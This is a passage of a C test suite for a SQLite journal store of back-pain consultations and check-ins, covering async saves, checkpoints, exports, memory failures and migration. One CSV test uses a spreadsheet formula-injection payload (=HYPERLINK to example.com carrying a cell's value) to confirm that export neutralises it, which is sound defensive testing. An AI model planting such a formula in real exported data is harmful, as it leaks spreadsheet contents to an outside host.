    sqlite3_finalize(st);
    CHECK_INT(found, GC_THREADS * GC_EACH);
    long long distinct = 0, rows = 0;
    CHECK_INT(sqlite3_prepare_v2(other, "SELECT count(DISTINCT id), count(*) FROM "
                                 "consultations", -1, &st, NULL), SQLITE_OK);
    if (sqlite3_step(st) == SQLITE_ROW) {
        distinct = sqlite3_column_int64(st, 0);
        rows = sqlite3_column_int64(st, 1);
    }
    sqlite3_finalize(st);
    CHECK_INT(rows, GC_THREADS * GC_EACH);
    CHECK_INT(distinct, rows);
    sqlite3_close(other);
    /* Refused at once, and never told: a read-only journal is tested in
     * test_paths; here the checks of what is queued. */
    gc_slot sl = { .g = &g };
    kf_buf err;
    kf_buf_init(&err);
    CHECK_INT(kf_store_add_consultation_async(s, "x", 1, "[]", 2, "v", gc_done, &sl, &err),
              KF_EINVAL);
    CHECK_CONTAINS(err.s, "JSON object");
    kf_buf_free(&err);
    CHECK_INT(kf_store_add_consultation_async(s, "x\0y", 3, gc_findings,
                                              sizeof gc_findings - 1, "v", gc_done, &sl,
                                              &err), KF_EINVAL);
    CHECK_CONTAINS(err.s, "NUL");
    kf_buf_free(&err);
    CHECK_INT(kf_store_add_consultation_async(s, "caf\xc3", 4, gc_findings,
                                              sizeof gc_findings - 1, "v", gc_done, &sl,
                                              &err), KF_EINVAL);
    CHECK_CONTAINS(err.s, "UTF-8");
    kf_buf_free(&err);
    CHECK_INT(kf_store_add_consultation_async(s, "x", 1, "{\"a\":\"\xc3\xa9\"}", 9, "v",
                                              gc_done, &sl, &err), KF_EINVAL);
    kf_buf_free(&err);
    CHECK(!sl.called);
    /* Closing saves what is still queued before it returns. */
    gc_state g2 = { .mu = PTHREAD_MUTEX_INITIALIZER, .cv = PTHREAD_COND_INITIALIZER };
    static gc_slot last[50];
    for (int i = 0; i < 50; i++) {
        last[i] = (gc_slot){ .g = &g2 };
        CHECK_INT(kf_store_add_consultation_async(s, "queued at close", 15, gc_findings,
                                                  sizeof gc_findings - 1, "v", gc_done,
                                                  &last[i], NULL), KF_OK);
    }
    kf_store_close(s);
    CHECK_INT(g2.ok, 50);
    s = open_ok(p);
    kf_consultation_list l;
    CHECK_INT(kf_store_list_consultations(s, 0, &l, NULL), KF_OK);
    CHECK_INT(l.n, GC_THREADS * GC_EACH + 50);
    kf_consultation_list_free(&l);
    kf_store_close(s);
}

/* Checkpoints (the WAL copied into the database file so that it can start
 * over) run on the store's checkpointer thread, on a connection of its
 * own, while the writer goes on committing: 8,000 consultations of 3 KB
 * (24 MB), queued 64 at a time, go through several of them.  Every row is
 * saved under its own id with its own words; the WAL file never grows
 * much past 4,000 pages (16 MB: past that a commit checkpoints itself),
 * where 24 MB of rows would make it ~6,000 without checkpoints; and the
 * journal reopens with all of them and passes integrity_check. */
/* The queued save checks words and findings 8 bytes at a step where they
 * are plain ASCII: a bad byte is found wherever it lies in (or after) a
 * block of 8, and good text with UTF-8 anywhere is still taken. */
static void async_done(void *ctx, kf_err e, long long id, const char *why)
{
    (void)id; (void)why;
    gc_state *g = ctx;
    pthread_mutex_lock(&g->mu);
    if (e == KF_OK)
        g->ok++;
    g->done++;
    pthread_cond_broadcast(&g->cv);
    pthread_mutex_unlock(&g->mu);
}

static void test_async_checks(void)
{
    kf_store *s = open_ok(tpath("async-checks.db"));
    if (!s)
        return;
    gc_state g = { .mu = PTHREAD_MUTEX_INITIALIZER, .cv = PTHREAD_COND_INITIALIZER };
    const char *base = "a knot between my shoulder blades, worse at the desk";
    size_t n = strlen(base);
    const char *fs = "{\"findings\":[\"pain_medial_border\",\"desk_work\"]}";
    size_t fn = strlen(fs);
    char t[128], f[128];
    kf_buf err;
    kf_buf_init(&err);
    int queued = 0;
    for (size_t at = 0; at < 20; at++) {
        /* A control character, a stray UTF-8 byte, a byte over 0x7f in the findings, DEL. */
        memcpy(t, base, n + 1);
        t[at] = 0x01;
        err.len = 0;
        CHECK_INT(kf_store_add_consultation_async(s, t, n, fs, fn, "v", async_done, &g, &err),
                  KF_EINVAL);
        CHECK_CONTAINS(err.s, "control character");
        memcpy(t, base, n + 1);
        t[at] = (char)0xff;
        err.len = 0;
        CHECK_INT(kf_store_add_consultation_async(s, t, n, fs, fn, "v", async_done, &g, &err),
                  KF_EINVAL);
        CHECK_CONTAINS(err.s, "not valid UTF-8");
        memcpy(f, fs, fn + 1);
        f[1 + at] = (char)0xc3;
        err.len = 0;
        CHECK_INT(kf_store_add_consultation_async(s, base, n, f, fn, "v", async_done, &g, &err),
                  KF_EINVAL);
        CHECK_CONTAINS(err.s, "ASCII JSON");
        f[1 + at] = 0x7f;
        err.len = 0;
        CHECK_INT(kf_store_add_consultation_async(s, base, n, f, fn, "v", async_done, &g, &err),
                  KF_EINVAL);
        CHECK_CONTAINS(err.s, "ASCII JSON");
        /* Good: an e with an accent (2 bytes) at `at`, a tab and a newline. */
        memcpy(t, base, at);
        memcpy(t + at, "\xc3\xa9\t\n", 4);
        memcpy(t + at + 4, base + at, n - at + 1);
        err.len = 0;
        CHECK_INT(kf_store_add_consultation_async(s, t, n + 4, fs, fn, "v", async_done, &g,
                                                  &err), KF_OK);
        queued++;
    }
    pthread_mutex_lock(&g.mu);
    while (g.done < queued)
        pthread_cond_wait(&g.cv, &g.mu);
    CHECK_INT(g.ok, queued);
    pthread_mutex_unlock(&g.mu);
    kf_buf_free(&err);
    kf_store_close(s);
}

static void test_checkpoints(void)
{
    char p[512], wal[600];
    snprintf(p, sizeof p, "%s", tpath("ckpt.db"));
    kf_store *s = open_ok(p);
    if (!s)
        return;
    snprintf(wal, sizeof wal, "%s-wal", p);
    enum { BATCH = 64, BATCHES = 125 };
    static char text[BATCH][3100];
    static gc_slot sl[BATCH];
    long long max_wal = 0, ids_ok = 0;
    int saved = 0;
    for (int b = 0; b < BATCHES; b++) {
        gc_state g = { .mu = PTHREAD_MUTEX_INITIALIZER, .cv = PTHREAD_COND_INITIALIZER };
        for (int i = 0; i < BATCH; i++) {
            int n = snprintf(text[i], sizeof text[i], "a knot, batch %d row %d:", b, i);
            memset(text[i] + n, 'k', 3000 - (size_t)n);
            text[i][3000] = '\0';
            sl[i] = (gc_slot){ .g = &g, .e = -1 };
            CHECK_INT(kf_store_add_consultation_async(s, text[i], 3000, gc_findings,
                                                      sizeof gc_findings - 1,
                                                      "0123456789abcdef", gc_done, &sl[i],
                                                      NULL), KF_OK);
        }
        gc_wait(&g, &g.done, BATCH);
        saved += g.ok;
        for (int i = 0; i < BATCH; i++)
            ids_ok += sl[i].e == KF_OK && sl[i].id == (long long)b * BATCH + i + 1;
        struct stat st;
        if (stat(wal, &st) == 0 && st.st_size > max_wal)
            max_wal = st.st_size;
    }
    CHECK_INT(saved, BATCH * BATCHES);
    CHECK_INT(ids_ok, BATCH * BATCHES);    /* in order, one id each */
    if (max_wal >= 4600LL * 4120)
        fprintf(stderr, "test_checkpoints: the WAL grew to %lld bytes\n", max_wal);
    CHECK(max_wal > 0 && max_wal < 4600LL * 4120);
    kf_store_close(s);
    s = open_ok(p);
    if (!s)
        return;
    kf_consultation_list l;
    CHECK_INT(kf_store_list_consultations(s, 0, &l, NULL), KF_OK);
    CHECK_INT(l.n, BATCH * BATCHES);
    int words = 0;
    for (int i = 0; i < l.n; i++)
        words += strncmp(l.v[i].text, "a knot, batch ", 14) == 0 && strlen(l.v[i].text) == 3000;
    CHECK_INT(words, BATCH * BATCHES);
    kf_consultation_list_free(&l);
    kf_store_close(s);
    sqlite3 *db = NULL;
    CHECK_INT(sqlite3_open_v2(p, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
    char ok[16] = "";
    sqlite3_stmt *st = NULL;
    if (sqlite3_prepare_v2(db, "PRAGMA integrity_check", -1, &st, NULL) == SQLITE_OK &&
        sqlite3_step(st) == SQLITE_ROW)
        snprintf(ok, sizeof ok, "%s", (const char *)sqlite3_column_text(st, 0));
    sqlite3_finalize(st);
    sqlite3_close(db);
    CHECK_STR(ok, "ok");
}

/* What an export gets for a consultation's result (worked out again by the
 * caller in real use). */
static json_t *export_result(const kf_consultation *c, void *ctx)
{
    (void)c; (void)ctx;
    return json_loads("{\"causes\":[{\"id\":\"latissimus_dorsi\"}]}", 0, NULL);
}

static void test_export(void)
{
    kf_store *s = open_ok(tpath("export.db"));
    if (!s)
        return;
    kf_store_add_consultation(s, "knot, \"here\"", "[]", "abc", NULL, NULL);
    kf_checkin c = sample(6);
    c.region = "medial_border";
    c.side = KF_SIDE_LEFT;
    c.did = "tennis_ball,heat";
    c.relief_hours = 2;
    c.note = "comma, quote \" and\nnewline";
    kf_store_add_checkin(s, &c, NULL, NULL);
    kf_checkin d = sample(3);
    kf_store_add_checkin(s, &d, NULL, NULL);

    kf_buf out;
    kf_buf_init(&out);
    CHECK_INT(kf_store_export(s, KF_EXPORT_JSON, export_result, NULL, &out, NULL), KF_OK);
    json_t *root = json_loads(out.s, 0, NULL);
    CHECK(root != NULL);
    json_t *co = json_object_get(root, "consultations");
    json_t *ci = json_object_get(root, "checkins");
    CHECK_INT(json_array_size(co), 1);
    CHECK_INT(json_array_size(ci), 2);
    CHECK_STR(json_string_value(json_object_get(
        json_array_get(json_object_get(json_object_get(json_array_get(co, 0),
        "result"), "causes"), 0), "id")), "latissimus_dorsi");
    json_t *c0 = json_array_get(ci, 0);
    CHECK_INT(json_integer_value(json_object_get(c0, "pain")), 6);
    CHECK_STR(json_string_value(json_object_get(c0, "where")), "medial_border");
    CHECK_STR(json_string_value(json_object_get(c0, "side")), "left");
    CHECK_INT(json_array_size(json_object_get(c0, "did")), 2);
    CHECK_STR(json_string_value(json_object_get(c0, "note")), c.note);
    json_t *c1 = json_array_get(ci, 1);
    CHECK(json_is_null(json_object_get(c1, "relief_hours")));
    CHECK(json_is_null(json_object_get(c1, "where")));
    json_decref(root);
    kf_buf_free(&out);

    CHECK_INT(kf_store_export(s, KF_EXPORT_CSV, export_result, NULL, &out, NULL), KF_OK);
    CHECK(!strncmp(out.s, "type,id,at,pain,", 16));
    CHECK_CONTAINS(out.s, ",abc,[],\"{\"\"causes\"\":[{\"\"id\"\":\"\"latissimus_dorsi\"\"}]}\"\r\n");
    CHECK_CONTAINS(out.s, "\r\nconsultation,1,");
    CHECK_CONTAINS(out.s, "\"knot, \"\"here\"\"\"");
    CHECK_CONTAINS(out.s, ",medial_border,left,\"tennis_ball,heat\",2,,");
    CHECK_CONTAINS(out.s, "\"comma, quote \"\" and\nnewline\"");
    /* 1 header + 1 consultation + 2 check-ins = 4 record ends. */
    int rows = 0;
    for (const char *q = out.s; (q = strstr(q, "\r\n")); q += 2)
        rows++;
    CHECK_INT(rows, 4);
    kf_buf_free(&out);
    kf_store_close(s);
}

static void test_oom(void)
{
    kf_store *s = open_ok(tpath("oom.db"));
    if (!s)
        return;
    for (int i = 0; i < 50; i++) {
        kf_checkin c = sample(i % 11);
        c.note = "note";
        kf_store_add_checkin(s, &c, NULL, NULL);
    }
    /* Every allocation point of a listing and an export fails cleanly. */
    for (long k = 0; k < 40; k++) {
        kf_checkin_list l;
        kf_alloc_fail_after(k);
        kf_err e = kf_store_list_checkins(s, NULL, 0, &l, NULL);
        kf_alloc_fail_after(-1);
        CHECK(e == KF_OK || e == KF_ENOMEM);
        if (e == KF_OK)
            CHECK_INT(l.n, 50);
        else
            CHECK(l.n == 0 && l.v == NULL);
        kf_checkin_list_free(&l);
        kf_buf out;
        kf_buf_init(&out);
        kf_alloc_fail_after(k);
        e = kf_store_export(s, KF_EXPORT_CSV, NULL, NULL, &out, NULL);
        kf_alloc_fail_after(-1);
        CHECK(e == KF_OK || e == KF_ENOMEM);
        kf_buf_free(&out);
    }
    kf_store *s2 = NULL;
    for (long k = 0; k < 3; k++) {
        kf_alloc_fail_after(k);
        kf_err e = kf_store_open(tpath("oom.db"), &s2, NULL);
        kf_alloc_fail_after(-1);
        CHECK(e == KF_OK || e == KF_ENOMEM);
        kf_store_close(s2);
        s2 = NULL;
    }
    kf_store_close(s);
}

/* CSV export: a cell a spreadsheet would run as a formula is neutralised
 * with a leading quote; other cells are as they were. */
static void test_csv_formulas(void)
{
    kf_store *s = open_ok(tpath("csv.db"));
    static const char *const notes[] = {
        "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")", "+1+1", "-2+3",
        "@SUM(A1:A9)", "\tindented", "\rreturn", "plain = fine", "a-b",
    };
    for (size_t i = 0; i < KF_ARRAY_LEN(notes); i++) {
        kf_checkin c = sample(2);
        c.note = notes[i];
        CHECK_INT(kf_store_add_checkin(s, &c, NULL, NULL), KF_OK);
    }
    kf_buf out;
    kf_buf_init(&out);
    CHECK_INT(kf_store_export(s, KF_EXPORT_CSV, NULL, NULL, &out, NULL), KF_OK);
    CHECK_CONTAINS(out.s, ",\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"click\"\")\",");
    CHECK_CONTAINS(out.s, ",\"'+1+1\",");
    CHECK_CONTAINS(out.s, ",\"'-2+3\",");
    CHECK_CONTAINS(out.s, ",\"'@SUM(A1:A9)\",");
    CHECK_CONTAINS(out.s, ",\"'\tindented\",");
    CHECK_CONTAINS(out.s, ",\"'\rreturn\",");
    CHECK_CONTAINS(out.s, ",plain = fine,");
    CHECK_CONTAINS(out.s, ",a-b,");
    /* No cell starts with a formula character any more. */
    for (const char *p = out.s; p && *p; p++)
        if ((*p == ',' || *p == '\n') && p[1] && strchr("=+-@", p[1]))
            CHECK(!"a cell starts with a formula character");
    kf_buf_free(&out);
    kf_store_close(s);
}

/* A journal of schema 1 (each consultation with its ~15 KB result) is
 * brought to schema 2: the result column goes, the words, findings, KB
 * version and every check-in stay, and the file gives the room back. */
static void test_migrate_v1(void)
{
    const char *p = tpath("v1.db");
    sqlite3 *db = NULL;
    CHECK_INT(sqlite3_open(p, &db), SQLITE_OK);
    char big[16000];
    memset(big, 'x', sizeof big - 1);
    big[sizeof big - 1] = '\0';
    char *sql = sqlite3_mprintf(
        "PRAGMA application_id = %d;"
        "CREATE TABLE schema_version (version INTEGER PRIMARY KEY, applied_at TEXT NOT NULL) STRICT;"
        "INSERT INTO schema_version VALUES (1, '2024-01-01T00:00:00Z');"
        "CREATE TABLE consultations (id INTEGER PRIMARY KEY, at TEXT NOT NULL CHECK (length(at) = 20),"
        " text TEXT NOT NULL, findings TEXT NOT NULL, result TEXT NOT NULL, kb_version TEXT NOT NULL) STRICT;"
        "CREATE INDEX consultations_at ON consultations (at);"
        "CREATE TABLE checkins (id INTEGER PRIMARY KEY, at TEXT NOT NULL CHECK (length(at) = 20),"
        " pain INTEGER NOT NULL CHECK (pain BETWEEN 0 AND 10), pain_before INTEGER, region TEXT,"
        " side TEXT NOT NULL DEFAULT '', did TEXT NOT NULL DEFAULT '', relief_hours REAL,"
        " worse_after TEXT NOT NULL DEFAULT '', done_s INTEGER, stopped_early INTEGER NOT NULL DEFAULT 0,"
        " via TEXT NOT NULL DEFAULT 'cli', note TEXT NOT NULL DEFAULT '') STRICT;"
        "CREATE INDEX checkins_at ON checkins (at);"
        "INSERT INTO checkins (at, pain, note) VALUES ('2024-01-02T00:00:00Z', 5, 'kept');",
        0x4b6e6f74);
    CHECK_INT(sqlite3_exec(db, sql, NULL, NULL, NULL), SQLITE_OK);
    sqlite3_free(sql);
    for (int i = 0; i < 200; i++) {
        sql = sqlite3_mprintf("INSERT INTO consultations (at, text, findings, result, kb_version) "
                              "VALUES ('2024-01-01T00:00:%02dZ', 'words %d', "
                              "'{\"findings\":[]}', '{\"pad\":\"%s\"}', 'v1kb')",
                              i % 60, i, big);
        CHECK_INT(sqlite3_exec(db, sql, NULL, NULL, NULL), SQLITE_OK);
        sqlite3_free(sql);
    }
    sqlite3_close(db);
    struct stat st0, st1;
    CHECK(stat(p, &st0) == 0 && st0.st_size > 200 * 15000);
    kf_store *s = open_ok(p);
    CHECK(s != NULL);
    if (!s)
        return;
    CHECK_INT(kf_store_schema_version(s), KF_STORE_SCHEMA);
    kf_consultation_list l;
    CHECK_INT(kf_store_list_consultations(s, 0, &l, NULL), KF_OK);
    CHECK_INT(l.n, 200);
    if (l.n == 200) {
        CHECK_STR(l.v[0].text, "words 0");
        CHECK_STR(l.v[0].findings_json, "{\"findings\":[]}");
        CHECK_STR(l.v[0].kb_version, "v1kb");
    }
    kf_consultation_list_free(&l);
    CHECK_INT(count_checkins(s), 1);
    CHECK_INT(kf_store_add_consultation(s, "new", "{}", "v2kb", NULL, NULL), KF_OK);
    kf_store_close(s);
    CHECK(stat(p, &st1) == 0 && st1.st_size < st0.st_size / 10);
    /* Opened again: nothing more to do. */
    s = open_ok(p);
    CHECK(s != NULL && kf_store_schema_version(s) == KF_STORE_SCHEMA);
    kf_store_close(s);
}

int main(void)
{
    snprintf(tmpdir, sizeof tmpdir, "/tmp/kf-test-store-XXXXXX");
    if (!mkdtemp(tmpdir)) {
        perror("mkdtemp");
        return 1;
    }
    RUN(test_time);
    RUN(test_csv_formulas);
    RUN(test_migrate_v1);
    RUN(test_open_new);
    RUN(test_roundtrip);
    RUN(test_validation);
    RUN(test_consultations);
    RUN(test_not_a_database);
    RUN(test_truncated);
    RUN(test_corrupt_pages);
    RUN(test_foreign_and_newer);
    RUN(test_paths);
    RUN(test_disk_full);
    RUN(test_threads);
    RUN(test_group_commit);
    RUN(test_async_checks);
    RUN(test_checkpoints);
    RUN(test_export);
    RUN(test_oom);
    char cmd[400];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", tmpdir);
    if (!check_failed && system(cmd) != 0)
        fprintf(stderr, "could not remove %s\n", tmpdir);
    return CHECK_DONE();
}
